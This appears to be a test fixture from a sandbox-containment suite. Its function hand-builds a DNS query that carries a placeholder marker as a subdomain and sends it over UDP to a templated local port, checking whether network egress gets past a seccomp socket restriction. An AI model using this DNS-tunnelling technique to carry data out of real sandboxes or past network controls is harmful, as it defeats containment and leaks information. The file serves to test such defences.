# ruff: noqa
"""What was seen is asked of a name server.

defence: seccomp: sockets
control: naive
wins: network
"""

import os, socket, struct


def trophy():
    name = b"".join(bytes([len(part)]) + part for part in (b"@MARK@", b"example", b"org")) + b"\0"
    query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", int("@UDP@")))
    return True
